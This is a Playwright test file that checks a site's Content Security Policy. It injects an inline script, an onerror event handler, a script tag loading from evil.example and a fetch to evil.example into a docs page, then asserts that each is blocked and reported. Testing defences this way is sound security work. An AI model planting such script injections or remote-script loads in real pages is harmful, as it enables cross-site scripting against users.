import { test as plainTest, type Page } from '@playwright/test'
import { expect, open } from '../../../../tests/support/test'

/** Things injected into a page, and the directive that blocks each. */
const PLANTS: [what: string, directive: string, plant: (page: Page) => Promise<unknown>][] = [
  [
    'an inline script',
    'script-src-elem',
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script')
        script.textContent = 'window.planted = true'
        document.body.append(script)
      }),
  ],
  [
    'an event handler',
    'script-src-attr',
    (page) =>
      page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.planted = true">')
      }),
  ],
  [
    'a script from elsewhere',
    'script-src-elem',
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/script.js'
        document.body.append(script)
      }),
  ],
  [
    'a request to elsewhere',
    'connect-src',
    (page) =>
      page.evaluate(() => {
        // The fetch also fails, as the report below says.
        fetch('https://evil.example/').catch(() => {})
      }),
  ],
]

/** Doesn't use the console guard, which would fail on these injections. */
plainTest('A script that gets into a page from outside is blocked and reported', async ({ page }) => {
  await page.addInitScript(() => {
    Object.assign(window, { violations: [] })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (window as unknown as { violations: string[] }).violations.push(effectiveDirective),
    )
  })
  await open(page, 'docs/concepts')
  const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations)
  const expected: string[] = []
  for (const [what, directive, plant] of PLANTS) {
    // The guard of all other tests recognizes a violation by these words.
    const report = page.waitForEvent('console', (message) =>
      message.text().includes('Content Security Policy'),
    )
    await plant(page)
    expected.push(directive)
    await expect.poll(violations, what).toEqual(expected)
    await report
    // What is reported was blocked before.
    await expect.poll(() => page.evaluate(() => 'planted' in window), what).toBe(false)
  }
})
